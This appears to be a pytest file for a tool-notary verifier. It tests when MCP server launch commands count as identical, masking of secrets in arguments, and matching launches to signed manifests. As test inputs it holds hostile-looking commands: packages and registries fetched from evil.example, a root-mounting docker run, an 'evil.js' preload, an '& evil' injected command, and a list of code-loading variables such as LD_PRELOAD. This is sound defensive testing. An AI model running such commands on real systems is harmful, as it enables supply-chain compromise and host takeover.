# SPDX-License-Identifier: Apache-2.0
"""docs/spec/launch.md: what is one launch and what is another, and that no secret is in either."""

import hashlib
import json
import re
import shlex
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import forge
import pytest
from hypothesis import given
from hypothesis import strategies as st

from toolnotary_verifier.canonical import canonical_bytes
from toolnotary_verifier.errors import InvalidInput
from toolnotary_verifier.launch import Launch
from toolnotary_verifier.manifest import Artifact, Manifest, Profile

BASE = Path("/srv/project")
HOME = {"HOME": "/home/ada"}


def launch(
    line: str | list[str],
    *,
    environment: Mapping[str, str] = HOME,
    folder: Path | None = None,
    base: Path = BASE,
) -> Launch:
    argv = shlex.split(line) if isinstance(line, str) else line
    return Launch.from_command(argv, base=base, environment=environment, folder=folder)


def argv(line: str | list[str], **options: Any) -> list[str]:
    found: list[str] = launch(line, **options).identity["argv"]
    return found


def manifest(*purls: str, remotes: tuple[str, ...] = (), digest: str | None = None) -> Manifest:
    surface = forge.surface(forge.tool("a"))
    return Manifest.build(
        server=forge.SERVER,
        version="1.0.0",
        profiles={"default": (Profile.of(surface), surface)},
        artifacts=[Artifact(purl, digest) for purl in purls],
        remotes=remotes,
    )


SAME = [
    (
        "npx -y @acme/weather",
        "npx @acme/weather",
        "npx --yes @acme/weather",
        "npx -y @acme/weather@1.4.0",
        "npx -y @acme/weather@latest",
        "npx -y @acme/weather@^1",
        "npx -q -y -- @acme/weather",
        "npx.cmd -y @acme/weather",
        "NPX.CMD -y @acme/weather",
        "cmd /c npx -y @acme/weather",
        "cmd.exe /d /s /c npx.cmd -y @acme/weather",
        "CMD.EXE /C npx -y @acme/weather",
        "cmd /c 'npx -y @acme/weather'",
        "env npx -y @acme/weather",
        "env TOKEN=abc npx -y @acme/weather",
    ),
    ("uvx mcp-server-git", "uvx mcp-server-git@1.2", "uvx mcp-server-git==1.2", "uvx mcp_server.git>=1,<2")[
        :3
    ],
    (
        "uvx mcp-server-git",
        "uv tool run mcp-server-git",
        "uvx.exe mcp_server_git",
        "uvx -q 'mcp-server-git ~= 1.0'",
    ),
    ("uvx --from 'acme[x]==1' serve", "uvx --from acme[x] serve"),
    ("pipx run acme==1", "pipx run acme"),
    ("bunx acme", "bunx acme@2"),
    ("pnpm dlx acme", "pnpm dlx acme@2"),
    ("docker run -i mcp/git", "docker run -i mcp/git:latest", "docker run -i mcp/git:1.0"),
    ("docker run -e TOKEN=a mcp/git", "docker run -e TOKEN=b mcp/git", "docker run --env=TOKEN=b mcp/git")[
        :2
    ],
    ("serve --api-key abc", "serve --api-key xyz"),
    ("serve --api-key=abc", "serve --api-key=xyz"),
    ("node ./dist/index.js", "node dist/index.js", "node /srv/project/dist/index.js"),
    ("./bin/serve", "/srv/project/bin/serve", "bin/../bin/serve"),
]


@pytest.mark.parametrize(("one", "other"), [(group[0], other) for group in SAME for other in group[1:]])
def test_spellings_of_one_launch_are_one(one: str, other: str) -> None:
    assert launch(one) == launch(other)
    assert launch(one).digest == launch(other).digest


DIFFERENT = [
    ("npx -y @acme/weather", "npx -y @acrne/weather"),
    ("npx -y @acme/weather", "npx -y weather"),
    ("npx -y @acme/weather", "bunx @acme/weather"),
    ("npx -y @acme/weather", "/opt/x/npx -y @acme/weather"),
    ("npx -y @acme/weather", "npx -y @acme/weather --write"),
    ("npx -y @acme/weather a b", "npx -y @acme/weather b a"),
    ("npx -y @acme/weather", "npx -y @acme/weather@npm:evil@1.0.0"),
    ("npx -y @acme/weather", "npx -y @acme/weather@https://evil.example/x.tgz"),
    ("npx -y @acme/weather", "npx -y --registry https://evil.example @acme/weather"),
    ("npx -y @acme/weather", "npx -y -p evil @acme/weather"),
    ("npx -y @acme/weather", "npx -y -p @acme/weather -c evil"),
    ("npx -c 'serve a'", "npx -c 'serve b'"),
    ("uvx acme", "uvx --with evil acme"),
    ("uvx acme", "uvx --index-url https://evil.example/simple acme"),
    ("uvx acme", "uvx --from evil acme"),
    ("uvx acme", "uvx 'acme[x]'"),
    ("uvx acme", "uvx 'acme @ https://evil.example/x.whl'"),
    ("docker run -i mcp/git", "docker run -i evil/git"),
    ("docker run -i mcp/git", "docker run -i -v /:/host mcp/git"),
    ("docker run -i mcp/git", "docker run -i --entrypoint sh mcp/git"),
    ("docker run -i mcp/git@sha256:" + "a" * 64, "docker run -i mcp/git@sha256:" + "b" * 64),
    ("docker run -i localhost:5000/git", "docker run -i localhost:5001/git"),
    ("docker run -e NODE_OPTIONS=--a mcp/git", "docker run -e NODE_OPTIONS=--b mcp/git"),
    ("python -m acme", "python -m evil"),
    ("python -c 'print(1)'", "python -c 'print(2)'"),
    ("node -e 1", "node -e 2"),
    ("node server.js", "node --require ./evil.js server.js"),
    ("node server.js", "node other.js"),
    ("sh -c 'npx -y x'", "sh -c 'npx -y y'"),
    ("python server.py", "python ../server.py"),
    ("serve --port 1", "serve --port 2"),
    ("cmd /c npx -y x", "cmd /c npx -y x & evil"),
    ("env A=1 npx -y x", "env NODE_OPTIONS=--x npx -y x"),
]


@pytest.mark.parametrize(("one", "other"), DIFFERENT)
def test_another_launch_is_another(one: str, other: str) -> None:
    assert launch(one) != launch(other)
    assert launch(one).differences(launch(other).identity)


def test_what_a_version_names_is_recorded_and_not_identity() -> None:
    found = launch("npx -y @acme/weather@1.4.0 --units metric")
    assert found.identity == {"type": "stdio", "argv": ["npx", "@acme/weather", "--units", "metric"]}
    assert found.recorded == {"argv": ["npx", "-y", "@acme/weather@1.4.0", "--units", "metric"]}
    assert found.display == "npx -y @acme/weather@1.4.0 --units metric"


def test_placeholders_stay_as_they_are_written() -> None:
    assert argv("serve --token ${TOKEN} ${HOME}/x $KEY %KEY% --url=${input:url}") == [
        "serve",
        "--token",
        "${TOKEN}",
        "${HOME}/x",
        "$KEY",
        "%KEY%",
        "--url=${input:url}",
    ]


def test_a_relative_path_is_told_from_the_lockfiles_folder_wherever_the_server_starts() -> None:
    assert argv("node ./a.js", folder=BASE / "sub") == ["node", "./sub/a.js"]
    assert argv("node ../a.js", folder=BASE / "sub") == ["node", "./a.js"]
    assert argv("node ./a.js", folder=Path("/var/evil")) == ["node", "/var/evil/a.js"]
    assert argv("serve --root .", folder=BASE) == ["serve", "--root", "./"]
    assert argv("./.venv/bin/serve") == ["./.venv/bin/serve"] != argv("./venv/bin/serve")


def test_another_clone_of_a_project_has_the_same_launches() -> None:
    assert launch("node ./a.js") == launch("node ./a.js", base=Path("/elsewhere/clone"))


def test_a_path_in_the_home_folder_is_told_without_the_users_name() -> None:
    assert argv("serve /home/ada/notes") == ["serve", "~/notes"]
    assert argv("serve /home/eve/notes") == ["serve", "/home/eve/notes"]


def test_paths_of_another_system_are_left_as_they_are() -> None:
    assert argv(["C:\\tools\\serve.exe", "C:\\x"])[0] == "C:\\tools\\serve.exe"


@pytest.mark.parametrize(
    "name",
    shlex.split(
        """NODE_OPTIONS NODE_PATH PYTHONPATH PYTHONSTARTUP PYTHONHOME LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT
        DYLD_INSERT_LIBRARIES DYLD_LIBRARY_PATH npm_config_registry NPM_CONFIG_REGISTRY PIP_INDEX_URL
        PIP_EXTRA_INDEX_URL UV_INDEX UV_INDEX_URL UV_DEFAULT_INDEX UV_EXTRA_INDEX_URL BASH_ENV PERL5OPT
        RUBYOPT JAVA_TOOL_OPTIONS DOTNET_STARTUP_HOOKS DOCKER_HOST"""
    ),
)
def test_a_variable_that_loads_code_is_part_of_the_launch(name: str) -> None:
    with_it = launch("npx -y x", environment={**HOME, name: "/evil"})
    assert with_it != launch("npx -y x")
    assert with_it == launch(f"env {name}=/evil npx -y x")
    assert with_it != launch("npx -y x", environment={**HOME, name: "/other"})
    assert launch("npx -y x", environment={**HOME, name: ""}) == launch("npx -y x")


@pytest.mark.parametrize("name", ["API_TOKEN", "PATH", "LANG", "DEBUG", "MY_NODE_OPTIONS", "PWD"])
def test_other_variables_are_the_servers_own_business(name: str) -> None:
    assert launch("npx -y x", environment={**HOME, name: "1"}) == launch("npx -y x")


CANARY = "kAnary0Secret1Value2Xy3"
SECRETS = [
    f"serve --api-key {CANARY}",
    f"serve --api-key={CANARY}",
    f"serve --api_key {CANARY}",
    f"serve --token {CANARY}",
    f"serve --token=plain-{CANARY}",
    f"serve --access-token=pl.ain-{CANARY}",
    f"serve --password 'two words {CANARY}'",
    f"serve --client-secret {CANARY}",
    f"serve -H 'Authorization: Bearer {CANARY}'",
    f"serve --header 'X-Api-Key: {CANARY}'",
    f"serve --header='X-Any: {CANARY}'",
    f"npx -y mcp-remote https://mcp.acme.example/mcp --header 'Authorization: Bearer {CANARY}'",
    f"serve 'Authorization: Bearer {CANARY}'",
    f"serve 'bearer {CANARY}'",
    f"serve -e TOKEN={CANARY}",
    f"serve --env TOKEN={CANARY}",
    f"serve --env=TOKEN={CANARY}",
    f"docker run -i -e ANYTHING={CANARY} mcp/git",
    f"docker run -i -eANYTHING={CANARY} mcp/git",
    f"docker run -i --env ANYTHING={CANARY} mcp/git",
    f"docker run -i --env=ANYTHING={CANARY} mcp/git",
    f"env ANYTHING={CANARY} npx -y x",
    f"npx -y x TOKEN={CANARY}",
    f"npx -y x ANY_VARIABLE={CANARY}",
    f"npx -y x {CANARY}",
    f"serve https://ada:{CANARY}@acme.example/x",
    f"serve https://acme.example/x?key={CANARY}",
    f"serve https://acme.example/x#{CANARY}",
    f"serve https://acme.example/s/{CANARY}/mcp",
    f"serve --url=https://acme.example/x?key={CANARY}",
    f"serve postgresql://ada:{CANARY}@db.example/x",
    f"serve --dsn 'host=x password={CANARY}'",
    f"serve 'password={CANARY}'",
    f"""serve --config '{{"apiKey": "{CANARY}"}}'""",
    f"sh -c 'API={CANARY} npx -y x'",
    f"python -c 'import x; x.run(\"{CANARY}\")'",
    f"node -e 'run(\"{CANARY}\")'",
    f"npx -c 'serve {CANARY}'",
    f"uvx --index-url https://ada:{CANARY}@acme.example/simple x",
    f"npx --registry https://ada:{CANARY}@acme.example x",
    f"serve sk-{CANARY}",
    "serve ghp_" + CANARY,
    f"serve -p{CANARY}",
    f"serve {CANARY}==",
    f"serve name={CANARY}",
    *(
        line.replace("SECRET", secret)
        for secret in ("SuperSecret1234567", "hunter2secret", "Qx7mZ2pL9w")
        for line in (
            "python3 srv.py -k SECRET",
            "serve -p SECRET",
            "serve -pSECRET",
            "serve -a SECRET",
            "serve -t SECRET",
            "serve -u ada:SECRET",
            "serve --user ada:SECRET",
            "serve --user=ada:SECRET",
            "serve -u SECRET",
            "serve -w SECRET",
            "serve --sa_pw=SECRET",
            "serve --sapw SECRET",
            "serve --dbPass SECRET",
            "serve --dbpass SECRET",
            "serve --access SECRET",
            "serve --access=SECRET",
            "serve --license SECRET",
            "serve --licence-key SECRET",
            "serve --user-pin SECRET",
            "serve --psk SECRET",
            "serve --otp SECRET",
            "serve --creds SECRET",
            "serve sa_pw=SECRET",
        )
    ),
    f"serve -xsk-live-{CANARY}",
    "serve --pin 123456",
    "serve --pin=123456",
    "serve --license hunter2x",
    "serve SuperSecret1234567",
    "serve a1b2c3d4e5f6a7b8c9",
    "serve Zk3PqLmWxYbTnRvCd8",
]
_TELLING = re.compile("SuperSecret1234567|hunter2|Qx7mZ2pL9w|123456|a1b2c3d4|Zk3PqLm|" + CANARY)


@pytest.mark.parametrize("line", SECRETS)
def test_a_secret_is_in_no_part_of_a_launch(line: str) -> None:
    found = launch(line)
    texts = [json.dumps(found.identity), json.dumps(found.recorded), found.display, repr(found)]
    assert not [text for text in texts if _TELLING.search(text)]


@pytest.mark.parametrize(
    "name", ["PIP_INDEX_URL", "UV_INDEX", "npm_config_registry", "UV_EXTRA_INDEX_URL", "NODE_OPTIONS"]
)
def test_credentials_in_a_variable_that_loads_code_are_masked(name: str) -> None:
    value = f"acme=https://ada:{CANARY}@acme.example/simple https://acme.example/y?k={CANARY}"
    found = launch("npx x", environment={name: value})
    assert CANARY not in json.dumps(found.identity)
    assert "acme.example" in json.dumps(found.identity)


def test_a_masked_secret_keeps_its_flag() -> None:
    line = f"serve --api-key {CANARY} --token={CANARY} -e KEY={CANARY} KEY={CANARY} --port 80"
    assert shlex.join(argv(line)).replace("'", "") == (
        "serve --api-key *** --token=*** -e KEY=*** KEY=*** --port 80"
    )
    line = "serve -k SuperSecret1234567 -pSuperSecret1234567 -u ada:hunter2secret --sa_pw=x --access=hunter2x"
    assert shlex.join(argv(line)).replace("'", "") == "serve -k *** -p*** -u ada:*** --sa_pw=*** --access=***"


@pytest.mark.parametrize(
    "word",
    [
        "@modelcontextprotocol/server-filesystem",
        "mcp-server-git",
        "awslabs.aws-documentation-mcp-server",
        "--allow-everything-in-this-folder",
        "postgres",
        "2026-07-28",
        "claude-haiku-4-5",
        "Europe/Vienna",
        "text2sql4postgres16",
        "20260728T120000Z",
        "MyServerVersion3",
        "flask-async-celery",
        "./task-graph-runner.py",
        "remark-reading-time",
        "gpt-4o-mini-2024-07-18",
        "qwen2-5-coder-32b",
        "mcp-server-v2026.7.28",
        "com.acme.server2026build",
        "ap-southeast-2",
        "postgres16-replica01",
    ],
)
def test_ordinary_words_are_not_masked(word: str) -> None:
    assert launch(["serve", word]).recorded == {"argv": ["serve", word]}


@pytest.mark.parametrize(
    "line",
    [
        "serve -p 8080",
        "serve -p 8080:80",
        "serve -p8080",
        "serve -p web01",
        "serve -p my-project-2026",
        "serve -p project.v20260728",
        "serve -u 1000:1000",
        "serve -u https://acme.example/mcp2026",
        "serve -t streamable-http",
        "serve -s 127.0.0.1:5432",
        "serve -s us-east-1",
        "serve -a ./agent2026x",
        "serve -a /srv/agent2026x7",
        "serve -w workspace-2026",
        "serve -k ${KEY}",
        "serve -n database2026x7",
        "serve --user ada",
        "serve --user 1000:1000",
        "serve --access read-only",
        "serve --access 2",
        "serve --access-mode unrestricted",
        "serve --bypass 10.0.0.0/8",
        "serve --mapping a1b2c3d4e",
        "serve --spin fast --compass north",
    ],
)
def test_what_tells_two_servers_apart_is_not_masked_behind_a_short_or_plain_flag(line: str) -> None:
    assert "***" not in launch(line).display


@given(st.lists(st.text(max_size=30), min_size=1, max_size=6).filter(lambda words: bool(words[0])))
def test_any_command_line_has_an_identity_in_canonical_form(words: list[str]) -> None:
    found = launch(words)
    assert canonical_bytes(found.identity)
    assert launch(words) == found
    restored = Launch.restored(found.identity, found.recorded, base=BASE)
    assert restored == found


@pytest.mark.parametrize(
    ("url", "same"),
    [
        ("https://mcp.acme.example/mcp", "https://mcp.acme.example/mcp?token=x"),
        ("https://mcp.acme.example/mcp", "HTTPS://MCP.acme.example:443/mcp#x"),
        ("https://mcp.acme.example/mcp", f"https://ada:{CANARY}@mcp.acme.example/mcp"),
        ("https://mcp.acme.example/", "https://mcp.acme.example"),
    ],
)
def test_a_url_is_its_origin_and_path(url: str, same: str) -> None:
    one, other = Launch.from_url(url), Launch.from_url(same)
    assert one == other
    assert CANARY not in repr(other)


@pytest.mark.parametrize(
    "other",
    [
        "http://mcp.acme.example/mcp",
        "https://mcp.acme.example:8443/mcp",
        "https://mcp.acme.example/mcp/",
        "https://mcp.acme.example/other",
        "https://mcp.acrne.example/mcp",
    ],
)
def test_another_origin_or_path_is_another_launch(other: str) -> None:
    assert Launch.from_url("https://mcp.acme.example/mcp") != Launch.from_url(other)


@pytest.mark.parametrize("url", ["", "ftp://x/y", "https://", "mcp", "https://[::1", "https://x:99999/"])
def test_what_is_no_http_url_is_refused_without_repeating_it(url: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        Launch.from_url(url)
    assert caught.value.code == "launch-url"


def test_a_command_without_a_word_is_refused() -> None:
    with pytest.raises(InvalidInput) as caught:
        launch([])
    assert caught.value.code == "launch-empty"


NPM = "pkg:npm/%40acme/weather@1.4.0"
PYPI = "pkg:pypi/mcp-server-git@1.0"
BELONGS = [
    ("npx -y @acme/weather", NPM, True),
    ("bunx @acme/weather@2", NPM, True),
    ("pnpm dlx @acme/weather", NPM, True),
    ("yarn dlx @acme/weather", NPM, True),
    ("npx -y -p @acme/weather serve", NPM, True),
    ("npx -y -p @acme/weather -p evil serve", NPM, False),
    ("npx -y -p @acme/weather -c evil", NPM, False),
    ("npx -y @acrne/weather", NPM, False),
    ("npx -y weather", NPM, False),
    ("uvx @acme/weather", NPM, False),
    ("npx -y @acme/weather@npm:evil", NPM, False),
    ("npx -y mcp-server-git", PYPI, False),
    ("uvx mcp-server-git", PYPI, True),
    ("uvx mcp_server.Git==3", PYPI, True),
    ("uv tool run mcp-server-git", PYPI, True),
    ("pipx run mcp-server-git", PYPI, True),
    ("uvx --from mcp-server-git serve", PYPI, True),
    ("uvx --from evil mcp-server-git", PYPI, False),
    ("python -m mcp_server_git", PYPI, True),
    ("python3.12 -m mcp_server_git --repository .", PYPI, True),
    ("py -m mcp_server_git", PYPI, True),
    ("python -m evil", PYPI, False),
    ("python mcp_server_git", PYPI, False),
    ("mcp-server-git", PYPI, True),
    ("/opt/venv/bin/mcp-server-git", PYPI, True),
    ("mcp-server-git.exe", PYPI, True),
    ("evil mcp-server-git", PYPI, False),
    ("sh -c mcp-server-git", PYPI, False),
    ("docker run -i mcp/git", "pkg:docker/mcp/git@1.0", True),
    ("docker run -i mcp/git:2.0", "pkg:docker/mcp/git", True),
    ("podman run docker.io/mcp/git", "pkg:docker/mcp/git", True),
    ("docker run -i evil/git", "pkg:docker/mcp/git", False),
    ("docker run -i ghcr.io/acme/git", "pkg:docker/acme/git?repository_url=ghcr.io", True),
    ("docker run -i ghcr.io/acme/git", "pkg:oci/git?repository_url=ghcr.io/acme/git", True),
    ("docker run -i acme/git", "pkg:oci/git?repository_url=ghcr.io/acme/git", False),
    ("docker run git", "pkg:docker/library/git", True),
    ("docker run -i mcp/git@sha256:" + "a" * 64, "pkg:docker/mcp/git@sha256%3A" + "a" * 64, True),
    ("docker run -i mcp/git@sha256:" + "b" * 64, "pkg:docker/mcp/git@sha256%3A" + "a" * 64, False),
]


@pytest.mark.parametrize(("line", "purl", "belongs"), BELONGS)
def test_a_launch_belongs_to_a_manifest_that_names_what_it_starts(
    line: str, purl: str, belongs: bool
) -> None:
    assert launch(line).belongs_to(manifest(purl)) is belongs


def test_one_of_several_artifacts_is_enough() -> None:
    assert launch("uvx mcp-server-git").belongs_to(manifest(NPM, PYPI))


def test_a_manifest_without_artifacts_and_remotes_belongs_to_nothing() -> None:
    nothing = manifest()
    assert not launch("npx -y @acme/weather").belongs_to(nothing)
    assert not Launch.from_url("https://mcp.acme.example/mcp").belongs_to(nothing)


def test_a_url_belongs_to_a_manifest_with_that_remote() -> None:
    signed = manifest(NPM, remotes=("https://mcp.acme.example/mcp",))
    assert Launch.from_url("https://mcp.acme.example/mcp?key=1").belongs_to(signed)
    assert not Launch.from_url("https://mcp.acme.example/other").belongs_to(signed)
    assert not Launch.from_url("https://mcp.evil.example/mcp").belongs_to(signed)


def test_a_file_belongs_to_the_manifest_that_holds_its_digest(tmp_path: Path) -> None:
    script = tmp_path / "server.py"
    script.write_text("print(1)\n", encoding="utf-8")
    digest = "sha256:" + hashlib.sha256(script.read_bytes()).hexdigest()
    signed = manifest("pkg:generic/weather@1.0", digest=digest)
    assert launch(["python", str(script)]).belongs_to(signed)
    assert launch([str(script)]).belongs_to(signed)
    assert launch("python server.py", base=tmp_path).belongs_to(signed)
    assert not launch(["python", "-c", "x", str(script)]).belongs_to(signed)
    assert not launch(["python", "other.py", str(script)], base=tmp_path).belongs_to(signed)
    script.write_text("print(2)\n", encoding="utf-8")
    assert not launch(["python", str(script)]).belongs_to(signed)


def test_an_interpreter_is_not_the_artifact_that_it_runs(tmp_path: Path) -> None:
    """Else whoever signs an interpreter's digest signs every script in the world."""
    interpreter = tmp_path / "python"
    interpreter.write_bytes(b"\x7fELF")
    digest = "sha256:" + hashlib.sha256(b"\x7fELF").hexdigest()
    assert not launch([str(interpreter), "x.py"]).belongs_to(manifest("pkg:generic/python@3", digest=digest))


def test_a_word_that_is_no_utf8_is_told_by_its_bytes() -> None:
    assert argv(["serve", "caf\udce9"]) == ["serve", "caf\\xe9"]


def test_what_is_displayed_is_escaped() -> None:
    assert "\x1b" not in launch(["serve", "\x1b]0;x\x07"]).display
